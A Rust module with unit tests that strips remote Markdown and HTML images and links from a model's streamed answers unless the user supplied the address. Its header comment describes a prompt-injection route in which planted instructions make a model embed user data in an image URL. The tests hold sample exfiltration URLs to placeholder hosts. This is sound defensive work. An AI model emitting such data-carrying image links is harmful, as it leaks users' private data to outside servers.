//! Remote images and links are taken out of answers before a client sees them, unless the person
//! wrote that address themselves.
//!
//! A client that renders Markdown fetches an image as soon as it shows it, and a link is one click
//! from a request: either can carry what the answer knows to a stranger's server. A cloud model
//! (or a document planting instructions) could write `![](https://x.example/?q=<EMAIL_1>)`, and the
//! placeholder restored on the way back would put the real address in the URL. So images and links
//! (Markdown, autolinks, HTML) to any address the request's own messages do not hold are replaced
//! by their text; bare addresses in prose are left as they are (nothing fetches them).

use std::sync::OnceLock;

use regex::{Captures, Regex};

/// Markdown images and links, `<https://…>` autolinks and HTML `img`/`a` tags.
fn remote() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(
            r#"(?xi)
              (?P<bang>!)?\[(?P<text>[^\]\n]*)\]\(\s*<?(?P<url>[^)\s>]+)>?(?:\s+(?:"[^"\n]*"|'[^'\n]*'))?\s*\)
            | <(?P<auto>(?:https?|ftp)://[^>\s]+)>
            | <img\b[^>]*>
            | <a\b[^>]*>(?P<atext>.*?)</a\s*>
            "#,
        )
        .expect("valid")
    })
}

fn url_in(tag: &str) -> Option<String> {
    static RE: OnceLock<Regex> = OnceLock::new();
    let re = RE
        .get_or_init(|| Regex::new(r#"(?i)\b(?:src|href)\s*=\s*["']?([^"'\s>]+)"#).expect("valid"));
    re.captures(tag).map(|c| c[1].to_string())
}

/// `text` with every image and link to an address not in `allowed` (the texts the person sent)
/// replaced by its text: an image by its description in brackets, a link by its words.
pub(crate) fn strip_remote(text: &str, allowed: &[String]) -> String {
    let from_user = |url: &str| allowed.iter().any(|a| a.contains(url));
    remote()
        .replace_all(text, |c: &Captures| {
            let whole = &c[0];
            if let Some(url) = c.name("url") {
                if from_user(url.as_str()) {
                    return whole.to_string();
                }
                let words = c.name("text").map_or("", |t| t.as_str());
                return if c.name("bang").is_some() {
                    format!("[image: {words}]")
                } else {
                    words.to_string()
                };
            }
            if let Some(url) = c.name("auto") {
                return if from_user(url.as_str()) {
                    whole.to_string()
                } else {
                    "[link removed]".to_string()
                };
            }
            match url_in(whole) {
                Some(url) if from_user(&url) => whole.to_string(),
                _ => c
                    .name("atext")
                    .map_or_else(|| "[image removed]".to_string(), |t| t.as_str().to_string()),
            }
        })
        .into_owned()
}

/// A streamed answer passed on a line at a time, each line stripped (a Markdown image or link
/// does not span lines).
#[derive(Debug, Default)]
pub(crate) struct LineGate {
    pending: String,
}

impl LineGate {
    /// Takes the next piece; returns the complete lines it finishes, stripped.
    pub(crate) fn push(&mut self, piece: &str, allowed: &[String]) -> String {
        self.pending.push_str(piece);
        let Some(end) = self.pending.rfind('\n') else {
            return String::new();
        };
        let lines: String = self.pending.drain(..=end).collect();
        strip_remote(&lines, allowed)
    }

    /// The rest, stripped, at the end of the stream.
    pub(crate) fn finish(&mut self, allowed: &[String]) -> String {
        strip_remote(&std::mem::take(&mut self.pending), allowed)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn remote_images_and_links_are_replaced_by_their_text() {
        let answer = "Made in 1870 [1]. ![chart](https://x.example/c.png?q=ana@example.org) \
                      See [the log](https://x.example/log?u=ana@example.org \"log\"), \
                      <https://x.example/auto>, <img src=\"https://x.example/p.gif\"> and \
                      <a href='https://x.example/a'>this page</a>. Plain https://x.example/plain stays.";
        let clean = strip_remote(answer, &[]);
        assert_eq!(
            clean,
            "Made in 1870 [1]. [image: chart] See the log, [link removed], [image removed] and \
             this page. Plain https://x.example/plain stays."
        );
        assert!(!clean.contains("ana@example.org"));
    }

    #[test]
    fn an_address_the_person_wrote_stays_and_citations_are_not_links() {
        let asked = vec!["Summarise https://docs.example/guide for me".to_string()];
        let answer =
            "See [the guide](https://docs.example/guide) [1][2] and ![x](https://y.example/i.png).";
        assert_eq!(
            strip_remote(answer, &asked),
            "See [the guide](https://docs.example/guide) [1][2] and [image: x]."
        );
    }

    #[test]
    fn a_streamed_answer_is_passed_on_by_lines_and_stripped() {
        let mut gate = LineGate::default();
        let mut out = String::new();
        for piece in [
            "Made in 1870.\n![a](https://x.ex",
            "ample/?q=secret)\nand ",
            "[b](http://y.example) done",
        ] {
            out.push_str(&gate.push(piece, &[]));
        }
        out.push_str(&gate.finish(&[]));
        assert_eq!(out, "Made in 1870.\n[image: a]\nand b done");
    }
}
